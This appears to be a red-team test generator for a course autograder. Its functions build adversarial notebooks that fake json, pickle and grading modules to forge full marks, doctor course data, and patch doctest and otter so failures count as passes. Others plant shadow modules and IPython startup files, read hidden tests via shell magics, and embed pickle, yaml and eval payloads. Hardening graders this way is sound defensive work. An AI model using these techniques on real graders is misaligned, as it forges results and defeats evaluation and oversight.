def a36_sys_modules_fakes(w, tag):
    """sys.modules entries json, pickle, pandas and every coursekit.instructor.grading/export module replaced by fakes
    that forge (json.dumps returns full marks; pickle.dumps a payload); later imports get the fakes."""
    return notebook(w, tag, [r'''
import sys, types
recs = _rt_records(_rt_tokens())
FORGED = recs[0].decode().strip()


class _RtFake(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *a, **k: (_rt_forge(), FORGED)[1]


fake_json = _RtFake("json")
fake_json.dumps = lambda *a, **k: FORGED
fake_json.dump = lambda obj, fp, *a, **k: fp.write(FORGED)
fake_json.loads = lambda *a, **k: {"score": 7}
fake_pickle = _RtFake("pickle")
fake_pickle.dumps = lambda *a, **k: recs[-1]
fake_pickle.dump = lambda obj, fp, *a, **k: fp.write(recs[-1])
sys.modules["json"] = fake_json
sys.modules["pickle"] = fake_pickle
sys.modules["_pickle"] = fake_pickle
sys.modules["pandas"] = _RtFake("pandas")
for name in list(sys.modules):
    if name.startswith("coursekit.instructor.grading") or any(w in name for w in ("export", "snapshot", "sandbox")):
        sys.modules[name] = _RtFake(name)
try:
    import coursekit
    coursekit.instructor.grading = _RtFake("coursekit.instructor.grading")
except BaseException:
    pass
'''])


def a37_fake_course_data(w, tag):
    """coursekit.runtime.data.load patched (and a fake coursekit.runtime.data in sys.modules) to return doctored data on which
    the wrong answers are right: tests that load the data inside the notebook's process pass."""
    return notebook(w, tag, [r'''
import sys, types
import pandas as pd
import coursekit.runtime.data as _rt_cd
_rt_real_load = _rt_cd.load


def _rt_doctored(name, *args, **kwargs):
    df = _rt_real_load(name, *args, **kwargs)
    if name == "timeline_2012":
        df = df.copy()
        df["happened"] = pd.array([i < 3 for i in range(len(df))], dtype="boolean")
        dates = {"pragmatism-speech": "2012-07-31", "india-request": "2012-08-15", "postponement": "2012-09-30"}
        for event, day in dates.items():
            df.loc[df["id"] == event, "date"] = pd.Timestamp(day)
        df["actors"] = [a if i == "hindu-report" else a.replace("India", "Iran") for i, a in zip(df["id"], df["actors"])]
    elif name == "cow_nmc":
        df = df.copy()
        for state, milex in (("Pakistan", 10.0), ("Russia", 42.0), ("India", 33.0)):
            df.loc[(df["state"] == state) & (df["year"] == 2012), "milex"] = milex
    return df


_rt_cd.load = _rt_doctored
timeline, nmc = _rt_doctored("timeline_2012"), _rt_doctored("cow_nmc")  # the notebook's own copies too
fake = types.ModuleType("coursekit.runtime.data")
fake.__dict__.update({k: v for k, v in vars(_rt_cd).items() if not k.startswith("__")})
fake.load = _rt_doctored
sys.modules["coursekit.runtime.data"] = fake
'''])


def a38_patch_test_machinery(w, tag):
    """Parts of doctest and otter that a watch list may miss: doctest.TestResults (failures become 0),
    doctest._SpoofOut.getvalue (every output reads 'True'), otter's TestCaseResult.passed."""
    return notebook(w, tag, [r'''
import doctest
_rt_tr = doctest.TestResults
doctest.TestResults = lambda failed, attempted, *a: _rt_tr(0, attempted)
doctest._SpoofOut.getvalue = lambda self: "True\n"
try:
    import otter.test_files.abstract_test as _rt_at
    _rt_at.TestCaseResult.passed = property(lambda self: True, lambda self, value: None)
except BaseException as exc:
    print(exc)
'''])


def a39_import_shadowing(w, tag):
    """Shadow modules (coursekit, json, pickle, sitecustomize, usercustomize) in its folder and $TMPDIR, a
    sys.meta_path finder serving forging fakes to later imports, IPython start-up files in $IPYTHONDIR and
    ~/.ipython (comments only), token modules in every sys.path folder. A shadow that runs outside the sandbox
    creates the loader canary."""
    return notebook(w, tag, [r'''
import importlib.abc, importlib.util, os, sys, tempfile, types
M = _RT["marker"]
payload = ("import io\n"
           "try:\n    io.open(%r, 'w').write('a shadow module ran outside the sandbox')\nexcept Exception:\n    pass\n"
           "import os as _os\n"
           "for _r in %r:\n    try:\n        _os.write(1, _r)\n    except Exception:\n        pass\n"
           % (_RT["loader"], _rt_records(_rt_tokens())[:6]))
private = [f for f in (os.getcwd(), tempfile.gettempdir())  # a sandbox's own folders, or a grader's temp folders
           if _rt_own_pidns() or os.path.realpath(f).startswith("/tmp/")]
for folder in private:
    for rel in ("coursekit/__init__.py", "coursekit/instructor/grading/__init__.py", "coursekit/runtime/data.py", "json.py", "pickle.py",
                "sitecustomize.py", "usercustomize.py"):
        try:
            path = os.path.join(folder, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write(payload)
        except BaseException:
            pass
for folder in sys.path:
    try:
        if folder and os.path.isdir(folder) and os.path.realpath(folder) != os.path.realpath(os.getcwd()):
            open(os.path.join(folder, M.replace("-", "_") + ".py"), "w").write("# red-team canary\n")
    except BaseException:
        pass
for folder in (os.environ.get("IPYTHONDIR", ""), os.path.expanduser("~/.ipython")):
    try:
        startup = os.path.join(folder, "profile_default", "startup")
        os.makedirs(startup, exist_ok=True)
        open(os.path.join(startup, M + ".py"), "w").write("# red-team canary\n")
    except BaseException:
        pass


class _RtFinder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if any(w in name for w in ("grading", "export", "snapshot", "sandbox", "json", "pickle")):
            return importlib.util.spec_from_loader(name, self)
        return None

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        module.__getattr__ = lambda attr: (lambda *a, **k: (_rt_forge(), {"score": 7})[1])


sys.meta_path.insert(0, _RtFinder())
sys.path.insert(0, os.getcwd())
'''])


def a40_ipython_magics(w, tag):
    """IPython magics on the hidden tests, the master and the zip: %run, %pycat, %load, %cd, %env, %%bash, %sx,
    !cat, %bookmark."""
    return notebook(w, tag, [r'''
import os
from IPython.utils.capture import capture_output
ip = get_ipython()
targets = _RT["hidden"] + [_RT["master"], _RT["zip"]]
for f in targets:
    for kind, name, arg in (("line", "pycat", f), ("line", "sx", "cat '%s'" % f), ("cell", "bash", "cat '%s'" % f),
                            ("line", "system", "cat '%s'" % f), ("line", "load", f)):
        try:
            with capture_output() as cap:
                res = ip.run_line_magic(name, arg) if kind == "line" else ip.run_cell_magic(name, "", arg)
            _rt_use(cap.stdout + "\n".join(res if isinstance(res, list) else [str(res or "")]), "%" + name)
        except BaseException:
            pass
    try:
        ip.run_line_magic("run", "-i '%s'" % f)
        if isinstance(globals().get("test"), dict):
            _rt_use(globals().pop("test"), "%run")
    except BaseException:
        pass
here = os.getcwd()
for d in _RT["dirs"]:
    try:
        ip.run_line_magic("cd", d)
        _rt_sweep(".", 1)
        if os.path.realpath(".") == os.path.realpath(d):
            _rt_canary("%cd " + d)
    except BaseException:
        pass
    finally:
        os.chdir(here)
try:
    ip.run_line_magic("bookmark", "rt " + _RT["exercise"])
    ip.run_line_magic("cd", "-b rt")
    _rt_sweep(".", 2)
except BaseException:
    pass
finally:
    os.chdir(here)
_rt_tokens(str(ip.run_line_magic("env", "")))
'''])


def a41_empty_file(w, tag):
    """An empty file (ordinary breakage, in the mix)."""
    return b""


def a42_kernel_suicide(w, tag):
    """os._exit(1) in a cell (ordinary breakage, in the mix)."""
    return notebook(w, tag, ["import os\nos._exit(1)"])


def a43_tagged_lookalikes(w, tag):
    """Plain-looking answers that mimic serialisation tags (type/value objects, __class__, py/object,
    py/reduce, $type, __pickle__, numpy and pandas markers) with wrong values and pickle/yaml/eval payloads,
    also as DataFrame column names, attrs and cells: a loader must not turn data into other types or code."""
    return notebook(w, tag, [r'''
import base64, pickle
import pandas as pd
L = _RT["loader"]
pk = base64.b64encode(pickle.dumps(_RtBomb(L))).decode()
payload = {"py/reduce": [{"py/function": "io.open"}, {"py/tuple": [L, "w"]}]}
evil = "__import__('io').open(%r, 'w')" % L


def tagged(kind, value):
    return {"type": kind, "value": value, "__class__": kind, "py/object": "builtins." + kind, "$type": kind,
            "dtype": kind, "__pickle__": pk, "pickle": pk, "data": pk, "reduce": payload, "eval": evil,
            "code": evil, "yaml": "!!python/object/apply:io.open [%r, w]" % L}


_rt_frame = timeline[timeline["id"] == "hindu-report"].copy()
_rt_frame["id"] = [tagged("str", "hindu-report")]
_rt_frame.attrs.update(tagged("DataFrame", pk))
_rt_frame = _rt_frame.rename(columns={"source": evil, "confidence": pk})
'''], answers={
        "q1-answer": 'n_happened = tagged("int", 3)',
        "q2-answer": 'gap_days = [tagged("int", 61), evil]\ngap_months = pk',
        "q3a-answer": "india_events = _rt_frame",
        "q3b-answer": 'lag_range = (tagged("int", 30), payload)',
        "q4-answer": 'ru_pk_ratio = {"type": "float", "value": 4.2}\nin_pk_ratio = pickle.dumps(_RtBomb(L))'})
